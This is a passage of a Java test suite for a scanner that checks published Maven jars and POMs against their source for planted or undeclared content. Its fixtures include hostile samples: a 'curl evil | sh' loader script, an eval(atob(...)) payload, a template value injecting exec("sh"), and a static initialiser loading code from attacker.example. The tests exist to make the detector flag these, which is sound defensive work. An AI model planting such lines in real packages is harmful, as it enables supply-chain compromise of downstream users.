        FileDivergence same = row(a, "OSGI-INF/blueprint/same.xml");
        assertEquals(FileStatus.MATCH, same.status());
        assertFalse(same.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aNestedClassItsOuterSourceDoesNotDeclareIsNotGenerated() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/Widget$Part.class", CLASS);
        jar.put("org/acme/Widget$Payload.class", CLASS);
        jar.put("org/acme/Widget$1.class", CLASS);
        jar.put("org/acme/Util.class", CLASS);
        jar.put("org/acme/Util$1.class", CLASS);
        ArtifactReport a = artifact(scanJar(agentTree(), "3.0.0", jar), ".jar");
        for (String p : List.of("org/acme/Widget$Part.class", "org/acme/Util$1.class")) {
            assertEquals(FileStatus.GENERATED, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, p).ruleId(), p);
        }
        for (String p : List.of("org/acme/Widget$Payload.class", "org/acme/Widget$1.class")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.PHANTOM, f.status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_UNDECLARED, f.ruleId(), p);
            assertEquals("src/main/java/org/acme/Widget.java", f.sourcePath().orElseThrow());
        }
        assertEquals(List.of("org/acme/Widget$1.class", "org/acme/Widget$Payload.class"),
                a.divergentPaths().stream().sorted().toList());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aTopLevelClassWhoseOwnNameHoldsDollarsIsCompiledFromItsSourceAndAnUndeclaredNestedOneIsNot() throws Exception {
        // gson's com/google/gson/internal/$Gson$Types.java: the '$' belong to the top-level name
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/java/org/acme/$Acme$Types.java", "package org.acme;\npublic final class $Acme$Types {\n"
                        + "  private static final class WildcardImpl {}\n}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/$Acme$Types.class", CLASS);
        jar.put("org/acme/$Acme$Types$WildcardImpl.class", CLASS);
        jar.put("org/acme/$Acme$Types$Payload.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        for (String p : List.of("org/acme/$Acme$Types.class", "org/acme/$Acme$Types$WildcardImpl.class")) {
            assertEquals(FileStatus.GENERATED, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, p).ruleId(), p);
            assertEquals("src/main/java/org/acme/$Acme$Types.java", row(a, p).sourcePath().orElseThrow(), p);
        }
        FileDivergence payload = row(a, "org/acme/$Acme$Types$Payload.class");
        assertEquals(FileStatus.PHANTOM, payload.status());
        assertEquals(MavenGeneratedFiles.CLASS_UNDECLARED, payload.ruleId());
        assertEquals(List.of("org/acme/$Acme$Types$Payload.class"), a.divergentPaths());
    }

    private static final String TEMPLATE = "package @package@;\n\npublic final class PackageVersion {\n"
            + "    public static final String VERSION = \"@projectversion@\";\n"
            + "    public static final String GROUP = \"${project.groupId}\";\n}\n";

    private static SortedMap<String, byte[]> templateTree(String templatePath) {
        return dev.divergence.fixtures.Trees.with(agentTree(), templatePath, TEMPLATE);
    }

    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(strings = {"src/main/java/org/acme/PackageVersion.java.in",
            "src/main/java-templates/org/acme/PackageVersion.java"})
    void aClassAndASourceTheBuildWritesFromATemplateAreExplainedByTheTemplate(String template) throws Exception {
        // jackson's PackageVersion.java.in (replacer plugin); gson's src/main/java-templates (templating plugin)
        {
            Map<String, byte[]> jar = new LinkedHashMap<>();
            jar.put("org/acme/Widget.java", agentTree().get("src/main/java/org/acme/Widget.java"));
            jar.put("org/acme/PackageVersion.java", (TEMPLATE.replace("@package@", "org.acme")
                    .replace("@projectversion@", "3.0.0").replace("${project.groupId}", "org.acme"))
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8));
            ArtifactReport a = artifact(scanSources(templateTree(template), "3.0.0", jar), "-sources.jar");
            FileDivergence pv = row(a, "org/acme/PackageVersion.java");
            assertEquals(FileStatus.MATCH_NORMALIZED, pv.status(), template);
            assertEquals(MavenGeneratedFiles.SOURCE_FROM_TEMPLATE, pv.ruleId(), template);
            assertEquals(template, pv.sourcePath().orElseThrow());
            assertEquals(Verdict.EXPLAINED, a.verdict(), template);
        }
    }

    private static final String ANT_SHRINKSAFE = "<project><target name=\"compress-file\"><java jar=\"lib/custom_rhino.jar\""
            + " fork=\"true\" output=\"${out}/${jsfilename}-compress.js\"><arg value=\"-c\"/>"
            + "<arg value=\"${in}/${jsfilename}.js\"/></java></target></project>\n";

    private ArtifactReport shrinkSafeJar(String buildFile, String compressed) throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(),
                "src/main/resources/org/acme/js/validateByte.js", dev.divergence.registry.npm.JsShrinkSafeTest.SOURCE);
        if (buildFile != null) {
            tree = dev.divergence.fixtures.Trees.with(tree, buildFile, ANT_SHRINKSAFE);
        }
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/js/validateByte.js", tree.get("src/main/resources/org/acme/js/validateByte.js"));
        jar.put("org/acme/js/validateByte-compress.js", compressed.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        return artifact(scanJar(tree, "3.0.0", jar), ".jar");
    }

    @Test
    void shrinkSafesCompressedCopyIsExplainedOnlyWhenTheBuildRunsItAndTheTokensProveIt() throws Exception {
        String compressed = dev.divergence.registry.npm.JsShrinkSafeTest.COMPRESSED;
        FileDivergence ok = row(shrinkSafeJar("build-javascript.xml", compressed), "org/acme/js/validateByte-compress.js");
        assertEquals(FileStatus.MATCH_NORMALIZED, ok.status());
        assertEquals(MavenGeneratedFiles.JS_SHRINKSAFE, ok.ruleId());
        assertFalse(ok.highRisk());
    }

    @Test
    void aCompressedCopyWithoutTheBuildStepStaysVisible() throws Exception {
        String compressed = dev.divergence.registry.npm.JsShrinkSafeTest.COMPRESSED;
        FileDivergence noStep = row(shrinkSafeJar(null, compressed), "org/acme/js/validateByte-compress.js");
        assertEquals(FileStatus.PHANTOM, noStep.status());
        assertTrue(noStep.highRisk(), "eval in a file no commit holds and no build step explains");
    }

    @Test
    void aCompressedCopyCarryingMoreThanItsSourceStaysVisible() throws Exception {
        FileDivergence payload = row(shrinkSafeJar("build.xml", dev.divergence.registry.npm.JsShrinkSafeTest.COMPRESSED
                + "eval(atob(\"Y3VybA==\"));\n"), "org/acme/js/validateByte-compress.js");
        assertEquals(FileStatus.PHANTOM, payload.status());
        assertTrue(payload.highRisk());
    }

    @Test
    void aTemplatePlaceholderFilledWithCodeIsNotExplained() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/PackageVersion.java", (TEMPLATE.replace("@package@", "org.acme")
                .replace("@projectversion@", "3.0.0\" + Runtime.getRuntime().exec(\"sh\") + \"")
                .replace("${project.groupId}", "org.acme")).getBytes(java.nio.charset.StandardCharsets.UTF_8));
        ArtifactReport a = artifact(scanSources(templateTree("src/main/java/org/acme/PackageVersion.java.in"), "3.0.0",
                jar), "-sources.jar");
        FileDivergence pv = row(a, "org/acme/PackageVersion.java");
        assertEquals(FileStatus.MODIFIED, pv.status());
        assertTrue(pv.highRisk(), pv.riskFlags().toString());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void theClassCompiledFromATemplateIsGeneratedAndOneWithoutAnyIsNot() throws Exception {
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/PackageVersion.class", CLASS);
        jar.put("org/acme/PackageVersionX.class", CLASS);
        ArtifactReport a = artifact(scanJar(templateTree("src/main/java/org/acme/PackageVersion.java.in"), "3.0.0", jar),
                ".jar");
        assertEquals(FileStatus.GENERATED, row(a, "org/acme/PackageVersion.class").status());
        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, row(a, "org/acme/PackageVersion.class").ruleId());
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(a, "org/acme/PackageVersionX.class").ruleId());
    }

    private static String shadingPom(String shadedPattern) {
        return "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>"
                + "<build><plugins><plugin><groupId>org.apache.maven.plugins</groupId>"
                + "<artifactId>maven-shade-plugin</artifactId><executions><execution><configuration><relocations>"
                + "<relocation><pattern>ch.example.fastlib</pattern><shadedPattern>" + shadedPattern
                + "</shadedPattern></relocation></relocations></configuration></execution></executions></plugin>"
                + "</plugins></build></project>\n";
    }

    @Test
    void classesUnderAShadedPackageAreBuildOutputAndOthersWithoutSourceAreNot() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml",
                shadingPom("org.acme.internal.shaded.fastlib"),
                // a test of the shaded code in its package is no source of the jar's classes
                "src/test/java/org/acme/internal/shaded/fastlib/ParserTest.java", "class ParserTest {}\n");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/internal/shaded/fastlib/Parser.class", CLASS);
        jar.put("META-INF/versions/11/org/acme/internal/shaded/fastlib/Parser.class", CLASS);
        jar.put("org/acme/internal/Evil.class", CLASS);
        jar.put("META-INF/thirdparty-LICENSE", "MIT\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        jar.put("META-INF/loader.sh", "curl evil | sh\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(FileStatus.PHANTOM, row(a, "META-INF/loader.sh").status());
        for (String p : List.of("org/acme/internal/shaded/fastlib/Parser.class",
                "META-INF/versions/11/org/acme/internal/shaded/fastlib/Parser.class", "META-INF/thirdparty-LICENSE")) {
            assertEquals(FileStatus.BUILD_OUTPUT, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.BUILD_SHADED, row(a, p).ruleId(), p);
        }
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(a, "org/acme/internal/Evil.class").ruleId());
        assertEquals(List.of("META-INF/loader.sh", "org/acme/internal/Evil.class"),
                a.divergentPaths().stream().sorted().toList());
    }

    @Test
    void aShadedClassLoadingCodeFromAUrlIsHighRisk() throws Exception {
        // red team round 8 (c12): a shaded JSONObject whose static initialiser loads a class from an https: jar
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml",
                shadingPom("org.acme.internal.shaded.fastlib"));
        Map<String, byte[]> loader = LocalMaven.javac(Map.of("org/acme/internal/shaded/fastlib/Parser.java",
                "package org.acme.internal.shaded.fastlib;\npublic class Parser {\n  static { try { new java.net.URLClassLoader("
                        + "new java.net.URL[] {new java.net.URL(\"https://attacker.example/p.jar\")}).loadClass(\"P\")"
                        + ".getDeclaredConstructor().newInstance(); } catch (Exception e) { } }\n}\n"), "--release", "11");
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/internal/shaded/fastlib/Parser.class", loader.get("org/acme/internal/shaded/fastlib/Parser.class"));
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence f = row(a, "org/acme/internal/shaded/fastlib/Parser.class");
        assertEquals(FileStatus.BUILD_OUTPUT, f.status(), f.toString());
        assertTrue(f.highRisk(), f.toString());
    }

    @Test
    void aShadedPatternWithAPropertyAndAResourceRelocationAreBuildOutput() throws Exception {
        // jackson-core 2.18: com/fasterxml/jackson/core/internal/shaded/fdp/v${project.version.underscore}
        String pom = shadingPom("org/acme/internal/shaded/fdp/v${project.version.underscore}").replace(
                "</relocations>", "<relocation><pattern>META-INF/LICENSE</pattern>"
                        + "<shadedPattern>META-INF/FastLib-LICENSE</shadedPattern></relocation></relocations>");
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", pom);
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/internal/shaded/fdp/v3_0_0/Parser.class", CLASS);
        jar.put("META-INF/FastLib-LICENSE", "Apache License 2.0\n".getBytes(java.nio.charset.StandardCharsets.UTF_8));
        jar.put("org/acme/internal/shaded/fdp/v3_0_0(x)/Evil.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        for (String p : List.of("org/acme/internal/shaded/fdp/v3_0_0/Parser.class", "META-INF/FastLib-LICENSE")) {
            assertEquals(FileStatus.BUILD_OUTPUT, row(a, p).status(), p);
            assertEquals(MavenGeneratedFiles.BUILD_SHADED, row(a, p).ruleId(), p);
        }
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE,
                row(a, "org/acme/internal/shaded/fdp/v3_0_0(x)/Evil.class").ruleId());
    }

    @Test
    void onlyTheShadePluginTheArtifactsOwnBuildRunsExplainsAnything() throws Exception {
        // red team: a relocation in <pluginManagement>, or in a test fixture's POM, shades nothing
        String managed = shadingPom("org.acme.internal.shaded.fastlib").replace("<build><plugins>",
                "<build><pluginManagement><plugins>").replace("</plugins></build>", "</plugins></pluginManagement></build>");
        String fixture = shadingPom("org.acme.internal.shaded.fastlib").replace("<artifactId>acme-core</artifactId>",
                "<artifactId>shade-fixture</artifactId>");
        for (SortedMap<String, byte[]> tree : List.of(
                dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", managed),
                dev.divergence.fixtures.Trees.with(agentTree(), "src/it/shade-fixture/pom.xml", fixture))) {
            java.nio.file.Files.walk(dir).sorted(java.util.Comparator.reverseOrder()).map(Path::toFile)
                    .filter(f -> !f.equals(dir.toFile())).forEach(java.io.File::delete);
            Map<String, byte[]> jar = new LinkedHashMap<>();
            jar.put("org/acme/Widget.class", CLASS);
            jar.put("org/acme/internal/shaded/fastlib/Preconditions.class", CLASS);
            ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
            assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE,
                    row(a, "org/acme/internal/shaded/fastlib/Preconditions.class").ruleId());
            assertEquals(Verdict.DIVERGENT, a.verdict());
        }
    }

    @Test
    void aShadedClassThatStartsProcessesIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml",
                shadingPom("org.acme.internal.shaded.fastlib"));
        // a class file whose constant pool names java/lang/ProcessBuilder (length-prefixed Utf8 entries)
        java.io.ByteArrayOutputStream cls = new java.io.ByteArrayOutputStream();
        cls.write(CLASS);
        for (String name : List.of("java/lang/ProcessBuilder", "start", "sh")) {
            cls.write(1);
            cls.write(0);
            cls.write(name.length());
            cls.write(name.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        }
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/internal/shaded/fastlib/Preconditions.class", cls.toByteArray());
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        FileDivergence f = row(a, "org/acme/internal/shaded/fastlib/Preconditions.class");
        assertEquals(FileStatus.BUILD_OUTPUT, f.status());
        assertTrue(f.riskFlags().contains(dev.divergence.model.RiskFlag.DYNAMIC_EXEC), f.riskFlags().toString());
        assertTrue(f.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aRelocationIntoThePackageOfTheProjectsOwnSourcesExplainsNothing() throws Exception {
        // shading into org.acme (where Widget.java lives) would let any added class pass as the dependency's
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", shadingPom("org.acme"));
        Map<String, byte[]> jar = new LinkedHashMap<>();
        jar.put("org/acme/Widget.class", CLASS);
        jar.put("org/acme/Evil.class", CLASS);
        ArtifactReport a = artifact(scanJar(tree, "3.0.0", jar), ".jar");
        assertEquals(MavenGeneratedFiles.CLASS_WITHOUT_SOURCE, row(a, "org/acme/Evil.class").ruleId());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    private ReleaseReport scanPublishedPom(SortedMap<String, byte[]> tree, String version, String publishedPom)
            throws Exception {
        return scanPublished(tree, version, Map.of(".pom", publishedPom.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    }

    private static final String SHADING_SOURCE_POM = "<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n"
            + "  <modelVersion>4.0.0</modelVersion>\n"
            + "  <parent><groupId>org.acme</groupId><artifactId>acme-parent</artifactId><version>3</version></parent>\n"
            + "  <groupId>org.acme</groupId><artifactId>acme-core</artifactId><version>3.0.0</version>\n"
            + "  <packaging>jar</packaging>\n"
            + "  <!-- the shade plugin writes the published POM -->\n"
            + "  <repositories><repository><id>snap</id><url>https://repo.example.org/snapshots</url>"
            + "<snapshots><enabled>true</enabled></snapshots></repository></repositories>\n"
            + "  <dependencies>\n"
            + "    <dependency><groupId>ch.example</groupId><artifactId>fastlib</artifactId><version>0.8.0</version></dependency>\n"
            + "    <dependency><groupId>org.slf4j</groupId><artifactId>slf4j-api</artifactId><version>2.0.9</version></dependency>\n"
            + "    <dependency><groupId>org.junit.jupiter</groupId><artifactId>junit-jupiter</artifactId><scope>test</scope></dependency>\n"
            + "  </dependencies>\n"
            + "  <build><plugins><plugin><artifactId>maven-shade-plugin</artifactId><executions><execution>"
            + "<configuration><artifactSet><includes><include>ch.example:fastlib</include></includes></artifactSet>"
            + "</configuration></execution></executions></plugin></plugins></build>\n</project>\n";

    /** What the shade plugin writes: reordered, defaults left out, relativePath rewritten, shaded and test deps gone. */
    private static String reduced(String extraDependency) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n"
                + "  <parent>\n    <artifactId>acme-parent</artifactId>\n    <groupId>org.acme</groupId>\n"
                + "    <version>3</version>\n    <relativePath>../pom.xml/pom.xml</relativePath>\n  </parent>\n"
                + "  <modelVersion>4.0.0</modelVersion>\n  <groupId>org.acme</groupId>\n"
                + "  <artifactId>acme-core</artifactId>\n  <version>3.0.0</version>\n"
                + "  <build>\n    <plugins>\n      <plugin>\n        <artifactId>maven-shade-plugin</artifactId>\n"
                + "        <executions>\n          <execution>\n            <configuration>\n              <artifactSet>\n"
                + "                <includes>\n                  <include>ch.example:fastlib</include>\n"
                + "                </includes>\n              </artifactSet>\n            </configuration>\n"
                + "          </execution>\n        </executions>\n      </plugin>\n    </plugins>\n  </build>\n"
                + "  <repositories>\n    <repository>\n      <snapshots />\n      <id>snap</id>\n"
                + "      <url>https://repo.example.org/snapshots</url>\n    </repository>\n  </repositories>\n"
                + "  <dependencies>\n    <dependency>\n      <groupId>org.slf4j</groupId>\n"
                + "      <artifactId>slf4j-api</artifactId>\n      <version>2.0.9</version>\n    </dependency>\n"
                + extraDependency + "  </dependencies>\n</project>\n";
    }

    @Test
    void theShadePluginsDependencyReducedPomIsTheSourcesModelWithoutTheShadedAndTestDependencies() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", SHADING_SOURCE_POM);
        ArtifactReport pom = artifact(scanPublishedPom(tree, "3.0.0", reduced("")), ".pom");
        FileDivergence row = row(pom, "pom.xml");
        assertEquals(FileStatus.MATCH_NORMALIZED, row.status());
        assertEquals(MavenGeneratedFiles.POM_DEPENDENCY_REDUCED, row.ruleId());
        assertTrue(row.detail().orElseThrow().contains("ch.example:fastlib (shaded in)"), row.detail().orElseThrow());
        assertEquals(Verdict.EXPLAINED, pom.verdict());
    }

    @Test
    void withoutIncludesTheDependencyReducedPomLeavesOutEveryRuntimeDependencyButAddsNone() throws Exception {
        // jackson-core 2.18: no <artifactSet>, so fastdoubleparser (and any compile dependency) is shaded in
        String source = SHADING_SOURCE_POM.replaceFirst("(?s)<artifactSet>.*?</artifactSet>", "");
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", source);
        String published = reduced("").replaceFirst("(?s)<artifactSet>.*?</artifactSet>", "")
                .replaceFirst("(?s)  <dependencies>.*?</dependencies>\n", "");
        ArtifactReport pom = artifact(scanPublishedPom(tree, "3.0.0", published), ".pom");
        assertEquals(MavenGeneratedFiles.POM_DEPENDENCY_REDUCED, row(pom, "pom.xml").ruleId());
        assertEquals(Verdict.EXPLAINED, pom.verdict());
    }

    @Test
    void aManagedButUnusedShadePluginExplainsNoDroppedDependency() throws Exception {
        // red team: shade only in <pluginManagement> never runs; a dropped (security-pinned) dependency stays visible
        String source = SHADING_SOURCE_POM.replace("<build><plugins>", "<build><pluginManagement><plugins>")
                .replace("</plugins></build>", "</plugins></pluginManagement></build>");
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", source);
        String published = reduced("").replace("<build>\n    <plugins>", "<build>\n    <pluginManagement>\n    <plugins>")
                .replace("</plugins>\n  </build>", "</plugins>\n    </pluginManagement>\n  </build>");
        ArtifactReport pom = artifact(scanPublishedPom(tree, "3.0.0", published), ".pom");
        assertEquals(FileStatus.MODIFIED, row(pom, "pom.xml").status());
        assertEquals(Verdict.DIVERGENT, pom.verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"parent", "classifier", "plugin-only", "relocation"})
    void whatAConsumerResolvesDifferentlyIsHighRisk(String change) throws Exception {
        // red team: another parent, a classifier, a dependency the source names only for a plugin, a relocation
        String source = SHADING_SOURCE_POM.replace("<artifactId>maven-shade-plugin</artifactId>",
                "<artifactId>maven-shade-plugin</artifactId><dependencies><dependency><groupId>org.codehaus.groovy"
                        + "</groupId><artifactId>groovy-all</artifactId><version>2.4.3</version></dependency>"
                        + "</dependencies>");
        String published = switch (change) {
            case "parent" -> source.replace("<version>3</version></parent>", "<version>3-hotfix</version></parent>");
            case "classifier" -> source.replace("<version>2.0.9</version>", "<version>2.0.9</version>"
                    + "<classifier>natives</classifier>");
            case "plugin-only" -> source.replace("  </dependencies>\n  <build>", "    <dependency><groupId>"
                    + "org.codehaus.groovy</groupId><artifactId>groovy-all</artifactId><version>2.4.3</version>"
                    + "</dependency>\n  </dependencies>\n  <build>");
            default -> source.replace("</project>", "<distributionManagement><relocation><groupId>io.evil</groupId>"
                    + "<artifactId>core</artifactId><version>6.6.6</version></relocation></distributionManagement>"
                    + "</project>");
        };
        assertTrue(!published.equals(source), change);
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", source);
        FileDivergence pom = row(artifact(scanPublishedPom(tree, "3.0.0", published), ".pom"), "pom.xml");
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId(), change);
        assertTrue(pom.highRisk(), change);
    }

    @ParameterizedTest
    @ValueSource(strings = {"snapshot-released", "snapshot-rc", "release-train", "snapshot-released+payload",
            "older+payload", "snapshot-hotfix+payload", "snapshot-released+repository"})
    void theParentsOwnLineAtTheReleasedVersionIsNamedAsSuch(String form) throws Exception {
        // jackson-core 2.18.5: parent jackson-base 2.18.5-SNAPSHOT in the source, 2.18.5 as released; 2.23.0 from
        // a repository copy older than the release: jackson-base 2.23.0, a later plain release of the same parent.
        // An older parent (a downgrade to one with a known hole, or one re-published) is another parent.
        boolean snapshot = form.startsWith("snapshot-");
        String source = snapshot
                ? SHADING_SOURCE_POM.replace("<version>3</version></parent>", "<version>3-SNAPSHOT</version></parent>")
                : SHADING_SOURCE_POM;
        String published = form.equals("snapshot-rc")
                ? SHADING_SOURCE_POM.replace("<version>3</version></parent>", "<version>3-rc1</version></parent>")
                : form.startsWith("snapshot-hotfix")
                ? SHADING_SOURCE_POM.replace("<version>3</version></parent>", "<version>3-hotfix</version></parent>")
                : snapshot ? SHADING_SOURCE_POM
                : SHADING_SOURCE_POM.replace("<version>3</version></parent>", form.startsWith("older")
                ? "<version>2.9</version></parent>" : "<version>3.0.0</version></parent>");
        if (form.endsWith("+repository")) {
            published = published.replace("https://repo.example.org/snapshots", "https://repo.evil.example/maven");
        }
        if (form.equals("snapshot-released+payload")) {
            // The same parent change beside a dependency the source never declared stays a new dependency; a
            // qualifier other than a pre-release's ("3-hotfix" from 3-SNAPSHOT) is another parent.
            published = published.replace("  </dependencies>", "    <dependency><groupId>com.evil</groupId>"
                    + "<artifactId>loader</artifactId><version>1.0</version></dependency>\n  </dependencies>");
        }
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", source);
        ArtifactReport pom = artifact(scanPublishedPom(tree, "3.0.0", published), ".pom");
        FileDivergence row = row(pom, "pom.xml");
        if (form.endsWith("+payload")) {
            assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, row.ruleId());
            assertTrue(row.highRisk());
            return;
        }
        if (form.endsWith("+repository")) {
            // red team: the parent rule named a POM whose repositories changed too; only a POM equal but for the
            // parent's (and its own) version is named so — and a repository consumers' Maven now searches is HIGH_RISK
            assertEquals(FileStatus.MODIFIED, row.status());
            assertEquals(MavenGeneratedFiles.POM_NEW_REPOSITORY, row.ruleId());
            assertTrue(row.highRisk());
            assertEquals(Verdict.HIGH_RISK, pom.verdict());
            return;
        }
        assertEquals(MavenGeneratedFiles.POM_PARENT_VERSION, row.ruleId(), form);
        assertEquals(FileStatus.MODIFIED, row.status(), "consumers inherit another parent release: visible");
        // no commit of this one-commit repository declares the released parent (with one that does it is no new
        // dependency: ConsumerResolutionScanTest)
        assertTrue(row.highRisk(), form);
        assertEquals("parent at another version: org.acme:acme-parent:" + (form.equals("snapshot-rc")
                ? "3-rc1 (source: 3-SNAPSHOT)" : snapshot ? "3 (source: 3-SNAPSHOT)" : "3.0.0 (source: 3)")
                + "; no commit of this POM declares that parent, a POM outside the repository whose dependencies and "
                + "repositories consumers inherit", row.detail().orElseThrow());
        assertEquals(Verdict.HIGH_RISK, pom.verdict());
    }

    @ParameterizedTest
    @ValueSource(strings = {"test-to-compile", "managed-to-used"})
    void aDependencyConsumersDidNotResolveFromTheSourceIsNew(String how) throws Exception {
        // red team: promoting the source's test-only dependency, or a merely managed one, into what consumers resolve
        // (same version: the source's own declaration is no history that explains it)
        String source = SHADING_SOURCE_POM.replace("<packaging>jar</packaging>", "<packaging>jar</packaging>\n"
                + "  <dependencyManagement><dependencies><dependency><groupId>com.example</groupId><artifactId>managed"
                + "</artifactId><version>1.0</version></dependency></dependencies></dependencyManagement>")
                .replace("<artifactId>junit-jupiter</artifactId><scope>test</scope>",
                        "<artifactId>junit-jupiter</artifactId><version>5.10.0</version><scope>test</scope>");
        String published = how.equals("test-to-compile")
                ? source.replace("<version>5.10.0</version><scope>test</scope>", "<version>5.10.0</version>")
                : source.replace("  </dependencies>\n  <build>", "    <dependency><groupId>com.example</groupId>"
                        + "<artifactId>managed</artifactId><version>1.0</version></dependency>\n  </dependencies>\n"
                        + "  <build>");
        assertFalse(published.equals(source), how);
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", source);
        FileDivergence pom = row(artifact(scanPublishedPom(tree, "3.0.0", published), ".pom"), "pom.xml");
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, pom.ruleId(), how);
        assertTrue(pom.highRisk(), how);
    }

    @Test
    void aDependencyReducedPomAddingADependencyOrDroppingAnUnshadedOneIsNotExplained() throws Exception {
        SortedMap<String, byte[]> tree = dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", SHADING_SOURCE_POM);
        ArtifactReport added = artifact(scanPublishedPom(tree, "3.0.0", reduced("    <dependency>\n"
                + "      <groupId>com.evil</groupId>\n      <artifactId>loader</artifactId>\n"
                + "      <version>1.0</version>\n    </dependency>\n")), ".pom");
        assertEquals(FileStatus.MODIFIED, row(added, "pom.xml").status());
        assertEquals(MavenGeneratedFiles.POM_NEW_DEPENDENCY, row(added, "pom.xml").ruleId());
        assertTrue(row(added, "pom.xml").detail().orElseThrow().contains("com.evil:loader"));
        assertTrue(row(added, "pom.xml").highRisk());
        assertEquals(Verdict.HIGH_RISK, added.verdict());
        java.nio.file.Files.walk(dir).sorted(java.util.Comparator.reverseOrder()).map(Path::toFile)
                .filter(f -> !f.equals(dir.toFile())).forEach(java.io.File::delete);
        String dropsSlf4j = reduced("").replaceFirst("(?s)    <dependency>.*?</dependency>\n", "");
        ArtifactReport dropped = artifact(scanPublishedPom(tree, "3.0.0", dropsSlf4j), ".pom");
        assertEquals(FileStatus.MODIFIED, row(dropped, "pom.xml").status());
        assertEquals(Verdict.DIVERGENT, dropped.verdict());
    }

    @Test
    void aDependencyTheSamePomDeclaredAtAnotherCommitIsDivergentAndANeverDeclaredOneIsHighRisk() throws Exception {
        String withSlf4j = SHADING_SOURCE_POM;
        String without = SHADING_SOURCE_POM.replaceFirst("(?s)    <dependency><groupId>org.slf4j</groupId>.*?</dependency>\n", "");
        try (GitHistoryBuilder git = GitHistoryBuilder.init(dir.resolve("repo"))) {
            git.commit(dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml",
                    withSlf4j.replace("<version>3.0.0</version>", "<version>2.9</version>")), "2.9",
                    Instant.parse("2025-12-01T00:00:00Z"));
            git.commit(dev.divergence.fixtures.Trees.with(agentTree(), "pom.xml", without), "3.0.0",
                    Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("v3.0.0", true);
        }
        String evil = withSlf4j.replace("org.slf4j", "org.evil");
        for (String[] c : new String[][] {{withSlf4j, MavenGeneratedFiles.POM_DEPENDENCY_FROM_HISTORY, "false"},
